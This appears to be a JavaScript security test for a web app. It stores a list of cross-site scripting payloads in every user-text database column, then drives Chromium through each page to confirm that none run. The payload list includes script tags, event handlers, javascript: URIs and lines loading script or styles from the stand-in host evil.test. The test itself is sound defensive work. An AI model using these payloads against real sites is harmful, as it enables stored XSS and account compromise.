// Scripts stored in every text that people may write, then Chromium on every page: nothing of them runs, and the content policy has nothing
// to refuse. Stored past the forms, by the database itself: what a form would refuse today may have come in another way.
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { chromium } from "playwright";
import postgres from "postgres";
import { root } from "../ensure.mjs";
import { chromiumPath } from "./chromium.mjs";
import { makeRecords } from "./entry-records.mjs";
import { signIn, tokenOf } from "./own-people.mjs";
import { visitAll } from "./screen-targets.mjs";
import { startStack } from "./stack.mjs";

const EVENTS = [
  "onerror",
  "onload",
  "onfocus autofocus",
  "onmouseover",
  "onanimationstart",
  "ontoggle",
  "onbegin",
  "onpointerenter",
];
const TAGS = ["img src=x", "svg", "input", "body", "details open", "video src=x", "iframe", "audio src=x"];
const WHOLE = [
  ...[
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.test/x.js></script>",
    "</script><script>alert(1)</script>",
  ],
  ...[
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
  ],
  ...[
    "'\"><img src=x onerror=alert(1)>",
    '"onfocus=alert(1) autofocus x="',
    "' onfocus=alert(1) autofocus x='",
    "`onload=alert(1)`",
  ],
  ...[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:alert(1)",
  ],
  ...[
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
  ],
  ...[
    "<style>*{background:url(//evil.test)}</style>",
    "<link rel=stylesheet href=//evil.test>",
    "<math><mi xlink:href=javascript:alert(1)>",
    "{{7*7}}",
  ],
  ...[
    "<form action=javascript:alert(1)><button>x",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "\\u003cscript\\u003ealert(1)",
  ],
];
const PAYLOADS = [
  ...WHOLE,
  ...TAGS.flatMap((tag, at) => [0, 1, 2, 3].map((more) => `<${tag} ${EVENTS[(at + more) % 8]}=alert(1)>`)),
];

/** Texts of people by the names that columns have for them; codes, states and keys of the program are none. */
const WRITTEN =
  /(^|_)(name|note|memo|description|reason|reference|body|line1|line2|city|phone|email|website|bank|footer|source|answer|problem|title|text)$/;
const NOT_OURS = /^(event_|app_session|api_token|account_link|job|identity_provider$)/;

/** What runs something, as these formats call it; the title of a PDF holds the very text, which is none. */
const IN_PDF = /\/(JavaScript|JS|Launch|SubmitForm)\b/;
const IN_SVG = /<script|<[^>]*\son\w+\s*=/i;

/** Puts the payloads into every such column, one after the other over its rows. Answers which columns took them, and which refused. */
async function store(sql) {
  const columns = await sql`
    select c.table_name as table, c.column_name as name from information_schema.columns c
      join information_schema.tables t on t.table_schema = c.table_schema and t.table_name = c.table_name and t.table_type = 'BASE TABLE'
     where c.table_schema = 'public' and c.data_type = 'text' and c.is_generated = 'NEVER' order by 1, 2`;
  const stored = [];
  const refused = [];
  for (const { table, name } of columns.filter((one) => WRITTEN.test(one.name) && !NOT_OURS.test(one.table))) {
    const put = (unique) =>
      sql.begin(async (tx) => {
        await tx`set local session_replication_role = replica`;
        const { count } = await tx`
          update ${tx(table)} t set ${tx(name)} = (${PAYLOADS}::text[])[1 + n.at % ${PAYLOADS.length}] || ${unique ? tx`n.at::text` : ""}
            from (select ctid as place, (row_number() over ())::int as at from ${tx(table)}) n where t.ctid = n.place`;
        return count;
      });
    const count = await put(false)
      .catch(() => put(true))
      .catch(() => null);
    if (count === null) refused.push(`${table}.${name}`);
    else if (count > 0) stored.push(`${table}.${name}`);
  }
  return { stored, refused };
}

/** What a page does that it must not: a dialog, a report of the content policy, a script's error. */
function watch(page, found) {
  page.on("dialog", (dialog) => {
    found.push(`dialog on ${page.url()}`);
    void dialog.dismiss();
  });
  page.on("console", (message) => {
    if (/Content Security Policy|Refused to/i.test(message.text()))
      found.push(`policy on ${page.url()}: ${message.text().slice(0, 200)}`);
  });
  page.on("pageerror", (error) => found.push(`script on ${page.url()}: ${error.message.slice(0, 200)}`));
}

/** How many of the payloads run where nothing stands in their way: a browser in which none does shows nothing. */
async function runAlone(browser) {
  const found = [];
  for (const payload of PAYLOADS) {
    const page = await browser.newPage();
    let ran = false;
    page.on("dialog", (dialog) => {
      ran = true;
      void dialog.dismiss();
    });
    await page.setContent(`<div>${payload}</div>`, { waitUntil: "commit" }).catch(() => {});
    await page.waitForTimeout(80);
    if (ran) found.push(payload);
    await page.close();
  }
  return found.length;
}

async function visitPages(browser, url, cookie, pages) {
  const context = await browser.newContext({ baseURL: url });
  const [name, value] = cookie.split("=");
  await context.addCookies([{ name, value, url }]);
  const found = [];
  for (const { address } of pages) {
    const page = await context.newPage();
    watch(page, found);
    const answer = await page.goto(address, { waitUntil: "load" });
    if ((answer?.status() ?? 500) >= 500) found.push(`${answer?.status()} on ${address}`);
    await page.waitForTimeout(150);
    await page.close();
  }
  await context.close();
  return found;
}

/** Answers the lines of the report and whether nothing ran. */
export async function visitStoredScripts(say) {
  const stack = await startStack({
    folder: root,
    command: [process.execPath, "ops/start.mjs"],
    env: { PULSE_RATE_LIMIT: "1000000" },
  });
  const { adminUrl } = JSON.parse(readFileSync(join(stack.data, "run.json"), "utf8"));
  const sql = postgres(adminUrl, { max: 1, onnotice: () => {} });
  const browser = await chromium.launch({ executablePath: chromiumPath(), args: ["--no-sandbox"] });
  try {
    const alone = await runAlone(browser);
    if (alone < 10)
      throw new Error(`only ${alone} payloads run where nothing stands in their way: this run would show nothing`);
    const { at } = await makeRecords(stack.url, await tokenOf(stack, "admin@pulse.local"));
    const people = ["admin", "accountant"];
    const cookies = [];
    for (const who of people) cookies.push(await signIn(stack.url, `${who}@pulse.local`));
    const { stored, refused } = await store(sql);
    say(`${PAYLOADS.length} payloads (${alone} run alone) in ${stored.length} columns; refused by ${refused}`);
    const found = [];
    let pages = 0;
    let documents = 0;
    for (const cookie of cookies) {
      const seen = [...(await visitAll(stack.url, { cookie, at })).seen.values()];
      const html = seen.filter(({ type }) => type.startsWith("text/html"));
      for (const { address, type, text } of seen.filter((one) => /pdf|svg/.test(one.type))) {
        documents++;
        if ((type.includes("pdf") ? IN_PDF : IN_SVG).test(text)) found.push(`${type} ${address} holds a script`);
      }
      found.push(...(await visitPages(browser, stack.url, cookie, html)));
      pages += html.length;
    }
    for (const one of found) say(one);
    const lines = [
      `${PAYLOADS.length} payloads, of which ${alone} run in a page without a policy, in ${stored.length} columns: ${pages} pages as administrator and accountant, ${documents} documents.`,
      `Dialogs, refusals of the content policy, errors: ${found.length}. Columns that take no such text: ${refused.map((one) => `\`${one}\``).join(", ") || "none"}.`,
    ];
    return { isRight: found.length === 0, lines };
  } finally {
    await browser.close();
    await sql.end({ timeout: 1 });
    await stack.stop();
  }
}
